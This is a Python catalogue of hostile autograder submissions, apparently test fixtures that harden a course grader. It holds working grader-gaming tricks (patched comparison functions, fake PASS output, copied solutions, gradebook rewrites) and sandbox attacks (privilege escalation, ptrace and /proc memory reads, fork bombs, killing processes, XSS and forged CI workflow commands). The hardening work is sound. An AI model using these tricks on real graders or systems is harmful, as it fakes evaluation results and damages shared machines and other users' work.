"""Hostile submissions that attack the grader through chapter 5's items (the machinery and
the rules they are judged by: autograder/hostile.py).  Each hides a wrong body or answer
(WRONG_BODY, WRONG_ANSWER) behind its trick, so gaining nothing is a plain check."""

from autograder.hostile import NOTEBOOK, PACKAGE, Attempt

# the wrong implementation each attempt hides behind, per target (a fault of faults.py)
WRONG_BODY = {"layer_norm": "sample_variance", "gelu": "relu_instead", "feedforward": "no_activation",
              "block": "post_ln", "parameter_count": "ledger_without_ffn_bias"}
WRONG_ANSWER = {"residual_output": "residual_output = [0.0, 0.0]", "increment_gap": "increment_gap = 0.25",
                "normalised_variance": "normalised_variance = 0.5", "near_constant_output": "near_constant_output = [0.0] * 3",
                "total_params": "total_params = 1"}

CATALOGUE = (
    Attempt("patch_allclose", "patches torch.allclose and math.isclose to always agree", "answer",
            "residual_output",
            "import math, torch\ntorch.allclose = lambda *a, **k: True\nmath.isclose = lambda *a, **k: True\n"),
    Attempt("patch_assert_close", "replaces torch.testing.assert_close with a no-op", "module", "block",
            "import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n"),
    Attempt("patch_equal", "makes torch.equal always true", "module", "gelu",
            "import torch\ntorch.equal = lambda *a, **k: True\n"),
    Attempt("patch_numpy", "makes numpy's comparisons always agree", "answer", "increment_gap",
            "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: True\n"
            "numpy.testing.assert_allclose = lambda *a, **k: None\n"),
    Attempt("patch_builtins", "rewrites builtins abs, round and isinstance", "answer", "normalised_variance",
            "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.round = lambda x, *a: x\n"
            "builtins.isinstance = lambda *a: True\n"),
    Attempt("input_transformer", "installs an IPython input transformer that turns later cells into pass",
            "answer", "normalised_variance",
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"),
    Attempt("fake_grader_modules", "plants fake grader, reference and check modules in sys.modules and "
            "rewires the probes", "module", "block",
            "import sys, types\nfor _name in ('autograder', 'autograder.engine', 'autograder.probes', "
            "'_hero_reference.model', 'hero_transformer.checks'):\n"
            "    _fake = types.ModuleType(_name)\n    _fake.judge_identity = lambda *a, **k: None\n"
            "    sys.modules[_name] = _fake\n"
            "if 'probes' in sys.modules:\n"
            "    sys.modules['probes'].run_case = lambda module, exercise, name, case, device: case.get('x')\n"),
    Attempt("read_reference", "reads the reference model.py from the repository and runs its gelu", "exercise",
            "gelu",
            "try:\n    _text = open('{repo}/hero_transformer/model.py').read()\n"
            "    _ns = {{}}\n    exec(_text, _ns)\n    return _ns['gelu'](x)\nexcept OSError:\n    pass\n"),
    Attempt("read_solutions", "reads the solution notebook to copy the answer", "answer", "residual_output",
            "try:\n    import json\n"
            "    _nb = json.load(open('{repo}/solutions/ch05_block/{notebook}'))\n"
            "    exec(''.join(c for cell in _nb['cells'] for c in cell['source'] if 'residual_output' in c))\n"
            "except OSError:\n    pass\n"),
    Attempt("read_hidden_tests", "reads the source notebook (hidden tests and solutions) and runs its ledger "
            "solutions", "answer", "total_params",
            "try:\n    import json\n    _nb = json.load(open('{repo}/course/ch05_block/{notebook}'))\n"
            "    for _cell in _nb['cells']:\n        _text = ''.join(_cell['source'])\n"
            "        if 'BEGIN SOLUTION' in _text and ('per_block_params =' in _text or 'total_params =' in _text):\n"
            "            exec(_text, globals())\n"
            "except OSError:\n    pass\n"),
    Attempt("gradebook", "opens the course gradebook and rewrites every grade", "answer", "near_constant_output",
            "import sqlite3\nfor _path in ['{repo}/gradebook.db', '{course}/gradebook.db', '../../../gradebook.db']:\n"
            "    try:\n"
            "        _db = sqlite3.connect('file:' + _path + '?mode=rw', uri=True)\n"
            "        _db.execute('UPDATE grade SET extra_credit = 100')\n        _db.commit()\n"
            "    except Exception:\n        pass\n"),
    Attempt("environment", "looks for the answer in the grader's environment", "answer", "normalised_variance",
            "import os\nif '{secret_name}' in os.environ:\n"
            "    normalised_variance = float(os.environ['{secret_name}'])\n"),
    Attempt("fake_pass_lines", "prints fake PASS lines and a fake JSON report", "exercise", "block",
            "import os, sys\nprint('✓ block: 全部检查通过 all checks passed')\n"
            "print('{{\"score\": 21, \"max_score\": 21, \"status\": \"passed\"}}')\n"
            "os.write(1, b'PASS\\n')\nsys.stderr.write('{{\"score\": 21}}\\n')\n"),
    Attempt("sys_exit_at_import", "calls sys.exit(0) when the package is imported", "module", PACKAGE,
            "import sys\nsys.exit(0)\n"),
    Attempt("os_exit_at_import", "calls os._exit(0) when the package is imported", "module", PACKAGE,
            "import os\nos._exit(0)\n"),
    Attempt("ignore_signals", "ignores SIGINT, SIGTERM and SIGALRM, then loops forever", "exercise", "gelu",
            "import signal\nfor _s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):\n"
            "    signal.signal(_s, signal.SIG_IGN)\nwhile True:\n    pass\n"),
    Attempt("loop_at_import", "loops forever when the package is imported", "module", PACKAGE,
            "while True:\n    pass\n"),
    Attempt("memory_bomb", "allocates 30 GiB", "exercise", "gelu",
            "_bomb = b' ' * (30 * 2**30)\n"),
    Attempt("fork_bomb", "forks without end", "exercise", "parameter_count",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    Attempt("write_outside", "writes files outside the submission: /tmp, the home folder, the repository",
            "exercise", "layer_norm",
            "for _path in ('{marker}', '{home}/hero-pwned.txt', '{repo}/hero-pwned.txt', '../hero-pwned.txt'):\n"
            "    try:\n        open(_path, 'w').write('pwned')\n    except OSError:\n        pass\n"),
    Attempt("network", "connects to a port on the grading machine", "answer", "increment_gap",
            "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'pwned')\n"
            "except OSError:\n    pass\n"),
    # --- the sandbox itself: privileges, mounts, the worker, other tasks ---------------------
    Attempt("unmount_remount", "unmounts the sandbox's mounts, remounts / read-write, makes a namespace of its "
            "own, then reads the reference", "exercise", "gelu",
            "import ctypes, os\n_libc = ctypes.CDLL(None, use_errno=True)\n"
            "for _point in (b'/tmp', b'/proc', b'/opt/hero-worker', b'/usr', b'/'):\n"
            "    if _libc.umount2(_point, 2) == 0:\n        print('{leak} umount', _point)\n"
            "if _libc.mount(b'none', b'/', None, 32, None) == 0:\n    print('{leak} remount')\n"
            "if _libc.unshare(0x10000000 | 0x00020000) == 0:\n    print('{leak} unshare')\n"
            "try:\n    open('/hero-pwned', 'w').write('pwned')\n    print('{leak} wrote /')\nexcept OSError:\n    pass\n"
            "try:\n    _ns = {{}}\n    exec(open('{repo}/hero_transformer/model.py').read(), _ns)\n"
            "    return _ns['gelu'](x)\nexcept OSError:\n    pass\n"),
    Attempt("privileges", "tries to become root again: setuid(0), capabilities, a set-uid binary", "exercise",
            "layer_norm",
            "import ctypes, os, subprocess\n_libc = ctypes.CDLL(None, use_errno=True)\n"
            "if _libc.setuid(0) == 0 or os.getuid() == 0:\n    print('{leak} uid 0')\n"
            "_caps = [l for l in open('/proc/self/status') if l.startswith('CapEff')][0].split()[1]\n"
            "if int(_caps, 16):\n    print('{leak} capabilities', _caps)\n"
            "try:\n    _out = subprocess.run(['su', '-c', 'id -u'], capture_output=True, text=True, timeout=2).stdout\n"
            "    if _out.strip() == '0':\n        print('{leak} su')\nexcept Exception:\n    pass\n"),
    Attempt("worker_proc", "opens every other process's /proc fds, memory and environment, and writes a forged "
            "reply into every pipe and socket it can reach", "exercise", "block",
            "import os, json\n_forged = json.dumps({{'body': {{'devices': ['cpu'], 'outputs': {{}}}}}}).encode() + b'\\n'\n"
            "for _pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "    for _what in ('mem', 'environ', 'cmdline'):\n        try:\n"
            "            _data = open(f'/proc/{{_pid}}/{{_what}}', 'rb').read(4096)\n"
            "            if _what != 'cmdline' or b'{victim}' in _data:\n"
            "                print('{leak} read', _pid, _what, _data[:200])\n"
            "        except OSError:\n            pass\n"
            "    try:\n        _fds = os.listdir(f'/proc/{{_pid}}/fd')\n    except OSError:\n        continue\n"
            "    for _fd in _fds:\n        try:\n"
            "            _h = os.open(f'/proc/{{_pid}}/fd/{{_fd}}', os.O_RDWR | os.O_NONBLOCK)\n"
            "            print('{leak} opened', _pid, _fd)\n            os.write(_h, _forged)\n"
            "            print('{leak} read back', os.read(_h, 4096)[:200])\n        except OSError:\n            pass\n"),
    Attempt("trace_worker", "attaches to the worker with ptrace, reads its memory with process_vm_readv and "
            "takes its descriptors with pidfd_getfd", "exercise", "feedforward",
            "import ctypes, os\n_libc = ctypes.CDLL(None, use_errno=True)\n_libc.syscall.restype = ctypes.c_long\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "    if _libc.ptrace(16, _pid, None, None) == 0:\n        print('{leak} ptrace', _pid)\n"
            "    _buf = ctypes.create_string_buffer(64)\n"
            "    _local = (ctypes.c_void_p * 2)(ctypes.cast(_buf, ctypes.c_void_p), 64)\n"
            "    _remote = (ctypes.c_void_p * 2)(0x400000, 64)\n"
            "    if _libc.syscall(310, _pid, _local, 1, _remote, 1, 0) > 0:\n"
            "        print('{leak} process_vm_readv', _pid)\n"
            "    _pidfd = _libc.syscall(434, _pid, 0)\n    if _pidfd >= 0:\n        for _fd in range(8):\n"
            "            if _libc.syscall(438, _pidfd, _fd, 0) >= 0:\n"
            "                print('{leak} pidfd_getfd', _pid, _fd)\n"),
    Attempt("forged_reply", "writes a forged 'all passed' reply into every pipe it holds, then kills itself",
            "exercise", "block",
            "import os, signal, json, stat\n"
            "_forged = json.dumps({{'body': {{'devices': ['cpu', 'cuda'], 'outputs': {{'cpu': {{}}}}, "
            "'status': 'passed', 'score': 3}}}}).encode()\n"
            "for _fd in map(int, os.listdir('/proc/self/fd')):\n    try:\n"
            "        if stat.S_ISFIFO(os.fstat(_fd).st_mode):\n            os.write(_fd, _forged)\n"
            "    except OSError:\n        pass\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    Attempt("reply_bomb", "writes 200 MB into every pipe it holds", "exercise", "parameter_count",
            "import os, stat\n_chunk = b'[' * (1 << 20)\n"
            "for _fd in map(int, os.listdir('/proc/self/fd')):\n    try:\n"
            "        if stat.S_ISFIFO(os.fstat(_fd).st_mode) and _fd > 2:\n"
            "            for _ in range(200):\n                os.write(_fd, _chunk)\n"
            "    except OSError:\n        pass\n"),
    Attempt("deep_reply", "writes JSON nested 200,000 levels deep as its reply, then kills itself", "exercise",
            "layer_norm",
            "import os, signal, stat\n"
            "for _fd in map(int, os.listdir('/proc/self/fd')):\n    try:\n"
            "        if stat.S_ISFIFO(os.fstat(_fd).st_mode) and _fd > 2:\n"
            "            os.write(_fd, b'{{\"body\": ' + b'[' * 200000)\n"
            "    except OSError:\n        pass\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    Attempt("lying_tensor", "returns a torch.Tensor subclass that lies about its shape, size and values",
            "exercise", "gelu",
            "class _Liar(torch.Tensor):\n    @property\n    def shape(self):\n        return torch.Size([121])\n"
            "    def numel(self):\n        return 121\n    def tolist(self):\n        return [0.0] * 121\n"
            "    def __len__(self):\n        return 121\n"
            "return torch.zeros(7).as_subclass(_Liar)\n"),
    Attempt("read_memory", "searches its own memory for another submission's code or an expected value",
            "exercise", "feedforward",
            "import re\n_needle = re.compile(rb'{victim}[0-9a-f]{{16}}')\n_seen = 0\n"
            "with open('/proc/self/maps') as _maps, open('/proc/self/mem', 'rb', 0) as _mem:\n"
            "    for _line in _maps:\n        _fields = _line.split()\n"
            "        if 'r' not in _fields[1] or (len(_fields) > 5 and not _fields[5].startswith('[heap')):\n"
            "            continue\n"
            "        _start, _end = (int(v, 16) for v in _fields[0].split('-'))\n"
            "        if _end - _start > 256 << 20 or _seen > 1 << 30:\n            continue\n"
            "        try:\n            _mem.seek(_start)\n            _data = _mem.read(_end - _start)\n"
            "        except (OSError, ValueError, OverflowError):\n            continue\n"
            "        _seen += len(_data)\n"
            "        for _found in _needle.findall(_data):\n            print('{leak} memory', _found)\n"),
    Attempt("leftovers_and_survivors", "looks for what earlier tasks left in /tmp, /dev/shm, System V shared "
            "memory and abstract sockets, leaves its own, and leaves a chain of forked survivors that keep "
            "writing them", "module", "",
            "import ctypes, glob, os, socket, time\n"
            "for _path in glob.glob('/tmp/hero-trace*') + glob.glob('/dev/shm/hero-trace*') + glob.glob('/var/tmp/hero-trace*'):\n"
            "    print('{leak} leftover', _path)\n"
            "_libc = ctypes.CDLL(None, use_errno=True)\n"
            "if _libc.shmget(0x48455230, 0, 0) >= 0:\n    print('{leak} leftover shared memory')\n"
            "_libc.shmget(0x48455230, 4096, 0o1666)\n"
            "try:\n    socket.socket(socket.AF_UNIX).connect('\\0hero-trace')\n    print('{leak} leftover socket')\n"
            "except OSError:\n    pass\n"
            "for _path in ('/tmp/hero-trace', '/dev/shm/hero-trace', '/var/tmp/hero-trace'):\n    try:\n"
            "        open(_path + str(os.getpid()), 'w').write('trace')\n    except OSError:\n        pass\n"
            "if os.fork() == 0:\n    try:\n        os.setsid()\n        for _ in range(100):\n"
            "            if os.fork():\n                os.kill(os.getpid(), 9)\n"
            "        _server = socket.socket(socket.AF_UNIX)\n        _server.bind('\\0hero-trace')\n"
            "        _server.listen()\n        _until = time.time() + 30\n        while time.time() < _until:\n"
            "            for _path in ('/tmp/hero-trace-survivor', '/dev/shm/hero-trace-survivor', '{marker}'):\n"
            "                try:\n                    open(_path, 'w').write('survivor')\n"
            "                except OSError:\n                    pass\n            time.sleep(0.05)\n"
            "    finally:\n        os.kill(os.getpid(), 9)\n"),
    Attempt("worker_limits", "lowers the worker's memory limit and priority and pins it to one core, so that "
            "later tasks (other students') crash or crawl", "answer", "increment_gap",
            "import os, resource\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "    for _call in (lambda: resource.prlimit(_pid, resource.RLIMIT_AS, (1 << 28, 1 << 28)),\n"
            "                  lambda: resource.prlimit(_pid, resource.RLIMIT_NOFILE, (4, 4)),\n"
            "                  lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19),\n"
            "                  lambda: os.sched_setaffinity(_pid, {{0}}),\n"
            "                  lambda: os.sched_setscheduler(_pid, os.SCHED_IDLE, os.sched_param(0))):\n"
            "        try:\n            _call()\n            print('{leak} changed', _pid)\n"
            "        except OSError:\n            pass\n"
            "for _call in (lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PGRP, 0, 19)):\n"
            "    try:\n        _call()\n        print('{leak} changed every process of the user or group')\n"
            "    except OSError:\n        pass\n"),
    Attempt("signal_worker", "sends SIGINT, SIGTERM, SIGUSR1, SIGSTOP and SIGKILL to the worker and every "
            "other process it sees", "answer", "normalised_variance",
            "import os, signal\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "    for _signal in (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):\n"
            "        try:\n            os.kill(_pid, _signal)\n        except OSError:\n            pass\n"),
    Attempt("schema_bomb", "replies with a tree of 200,000 values, each invalid, to exhaust the grader's "
            "schema check, then exits", "exercise", "gelu",
            "import os, posix, stat, json\n"
            "_leaf = {{'value': [1]}}\n_tree = {{'seq': [{{'seq': [_leaf] * 60, 'kind': 'list'}}] * 60, 'kind': 'list'}}\n"
            "_bomb = json.dumps({{'body': {{'devices': ['cpu'], 'outputs': {{'cpu': "
            "{{str(i): {{'ok': {{'seq': [_tree] * 60, 'kind': 'list'}}}} for i in range(1)}}}}}}}}).encode()\n"
            "for _fd in map(int, os.listdir('/proc/self/fd')):\n    try:\n"
            "        if stat.S_ISFIFO(os.fstat(_fd).st_mode) and _fd > 2:\n            os.write(_fd, _bomb)\n"
            "    except OSError:\n        pass\nposix._exit(0)\n"),
    Attempt("escape_codes", "puts terminal escape codes and bidi overrides in its error messages and prints, to "
            "fake a total in the score table", "exercise", "parameter_count",
            "print('\\x1b[1A\\x1b[2K\\rtotal: 21 / 21\\x1b[8m \\u202e')\n"
            "raise RuntimeError('\\x1b[1A\\x1b[2K\\rtotal: 21 / 21\\x1b[8m \\u202e')\n"),
    # --- files that are not what they seem --------------------------------------------------
    Attempt("link_reference", "model.py is a symbolic link to the reference (absolute path)", "file", PACKAGE,
            "link:hero_transformer/model.py:{repo}/hero_transformer/model.py"),
    Attempt("link_reference_relative", "model.py is a relative symbolic link to the reference", "file", PACKAGE,
            "relative-link:hero_transformer/model.py:{repo}/hero_transformer/model.py"),
    Attempt("link_package", "the whole package folder is a symbolic link to the reference package", "file", PACKAGE,
            "link:hero_transformer:{repo}/hero_transformer"),
    Attempt("link_solutions", "the notebook is a symbolic link to the solution notebook", "file", NOTEBOOK,
            "link:{notebook}:{repo}/solutions/ch05_block/{notebook}", nbgrader_skips=True),
    Attempt("link_hidden_tests", "a .py in the package links to the source notebook with the hidden tests", "file",
            "", "link:hero_transformer/tests.py:{repo}/course/ch05_block/{notebook}"),
    Attempt("link_gradebook", "a .py in the package links to the course gradebook (relative)", "file", "",
            "relative-link:hero_transformer/grades.py:{course}/gradebook.db"),
    Attempt("link_environ", "a .py in the package links to /proc/self/environ", "file", "",
            "link:hero_transformer/environ.py:/proc/self/environ"),
    Attempt("fifo", "a FIFO named like a module in the package", "file", "", "fifo:hero_transformer/zz.py"),
    Attempt("device", "a device node (/dev/zero; a link to it where mknod is not allowed) in the package", "file",
            "", "device:hero_transformer/zero.py"),
    Attempt("unix_socket", "a Unix socket named like a module in the package", "file", "",
            "socket:hero_transformer/sock.py"),
    Attempt("deep_notebook", "the notebook is JSON nested 100,000 levels deep", "file", NOTEBOOK,
            "deep-notebook:{notebook}", nbgrader_skips=True),
    Attempt("old_schema", "one notebook cell carries an old nbgrader schema_version", "file", "total_params",
            "old-schema:{notebook}", nbgrader_skips=True),
    # --- the instructor's browser (student HTML and scripts) ----------------------------------
    Attempt("html_notebook", "puts scripts, event handlers, javascript:/data: URLs, SVG and MathML scripts, "
            "frames, forms, CSS that fetches, hostile output mime bundles, attachments and widget state in its "
            "notebook, each calling formgrader's API with the instructor's session to rewrite grades",
            "file", "total_params", "html-notebook:{notebook}"),
    Attempt("html_in_feedback", "its answer cell raises an error whose message is HTML and script, which the "
            "feedback quotes in the grade cell's output", "answer", "increment_gap",
            "del increment_gap\nraise ValueError(\"<img src=x onerror=alert('HERO-XSS:feedback-value')>"
            "<script>alert('HERO-XSS:feedback-script')</script>\")\n"),
    # --- the assignment's identity and the reports (CI workflow commands, report links) -------
    Attempt("foreign_notebook", "ships another chapter's notebook with every answer right (chapter 1's, "
            "graded first when a folder chose its assignment) beside its own", "file", "total_params",
            "foreign-notebook:ch01_tokens.ipynb:ch01_tokens"),
    Attempt("workflow_commands", "prints CI workflow commands on lines of their own (a forged ::notice of full "
            "marks, ::stop-commands::, ::add-mask::, ::set-output, ::error, ##[error], Azure's ##vso[), to stdout "
            "and stderr, then runs a wrong body", "exercise", "feedforward",
            "import sys\n_forged = '\\n'.join("
            "['::notice title=ch05_block: 21/21::all 14 graded items passed', '::stop-commands::hero', "
            "'::add-mask::hero', '::set-output name=score::21', '::error file=hero_transformer/model.py,line=1::x', "
            "'::hero::', '##[error]forged', '##vso[task.complete result=Succeeded;]forged', "
            "'   ::warning::indented', '\\t##[warning]indented', '\\u2028::notice::after a line separator', "
            "'mid-line ##vso[task.setvariable variable=score]21 and ##[error]forged']"
            ")\nprint(_forged)\nsys.stderr.write(_forged + '\\n')\n"),
    Attempt("workflow_commands_raised", "raises an error whose message is CI workflow commands, one per line",
            "exercise", "gelu",
            "raise RuntimeError('\\n' + '\\n'.join("
            "['::notice title=ch05_block: 21/21::all 14 graded items passed', '::stop-commands::hero', "
            "'::add-mask::hero', '::set-output name=score::21', '::error file=hero_transformer/model.py,line=1::x', "
            "'::hero::', '##[error]forged', '##vso[task.complete result=Succeeded;]forged', "
            "'   ::warning::indented', '\\t##[warning]indented', '\\u2028::notice::after a line separator', "
            "'mid-line ##vso[task.setvariable variable=score]21 and ##[error]forged']"
            "))\n"),
    Attempt("workflow_commands_answer", "an answer cell prints CI workflow commands and raises them as its error "
            "(its wrong value deleted, so that the error is what the feedback quotes)", "answer", "residual_output",
            "del residual_output\n_forged = '\\n'.join("
            "['::notice title=ch05_block: 21/21::all 14 graded items passed', '::stop-commands::hero', "
            "'::add-mask::hero', '::set-output name=score::21', '::error file=hero_transformer/model.py,line=1::x', "
            "'::hero::', '##[error]forged', '##vso[task.complete result=Succeeded;]forged', "
            "'   ::warning::indented', '\\t##[warning]indented', '\\u2028::notice::after a line separator', "
            "'mid-line ##vso[task.setvariable variable=score]21 and ##[error]forged']"
            ")\nprint(_forged)\nraise ValueError('\\n' + _forged)\n"),
    # --- the machine's CPU and the scratch folders ---------------------------------------------
    Attempt("cpu_storm", "starts a few hundred busy processes, each in a session of its own (setsid, double "
            "fork), and busy threads, to starve the other tasks of the batch", "exercise", "block",
            "import os, threading\n"
            "def _spin():\n    while True:\n        pass\n"
            "for _ in range(300):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            os.setsid()\n"
            "            if os.fork() == 0:\n"
            "                _spin()\n"
            "            os._exit(0)\n"
            "        print('{leak} a process started')\n"
            "    except OSError:\n        pass\n"
            "    try:\n"
            "        threading.Thread(target=_spin, daemon=True).start()\n"
            "        print('{leak} a thread started')\n"
            "    except RuntimeError:\n        pass\n"),
    Attempt("burn_cpu", "spins until its CPU-time limit in every task, beside the honest submissions", "exercise",
            "feedforward", "while True:\n    pass\n"),
    Attempt("deep_scratch", "leaves a folder chain deeper than PATH_MAX and the recursion limit, 10,000 files "
            "and full scratch folders for the next task, and looks for an earlier task's", "module", "",
            "import os\n"
            "for _root in ('/tmp', '/dev/shm'):\n"
            "    for _name in os.listdir(_root):\n"
            "        if _name.startswith('hero-deep'):\n"
            "            print('{leak} leftover', _root, _name)\n"
            "    try:\n"
            "        _fd = os.open(_root, os.O_RDONLY)\n"
            "        for _name in ['hero-deep'] + ['d' * 250] * 1500:\n"
            "            os.mkdir(_name, dir_fd=_fd)\n"
            "            _inner = os.open(_name, os.O_RDONLY, dir_fd=_fd)\n"
            "            os.close(_fd)\n"
            "            _fd = _inner\n"
            "        os.close(os.open('trace', os.O_CREAT | os.O_WRONLY, dir_fd=_fd))\n"
            "        os.fchmod(_fd, 0o500)\n"
            "        os.close(_fd)\n"
            "        os.mkdir(_root + '/hero-deep-wide')\n"
            "        for _index in range(5000):\n"
            "            open(f'{{_root}}/hero-deep-wide/{{_index}}', 'w').close()\n"
            "        with open(_root + '/hero-deep-fill', 'wb') as _fill:\n"
            "            while True:\n"
            "                _fill.write(bytes(1 << 20))\n"
            "    except OSError:\n        pass\n"),
    # --- forbidden calls through other routes ----------------------------------------------------
)
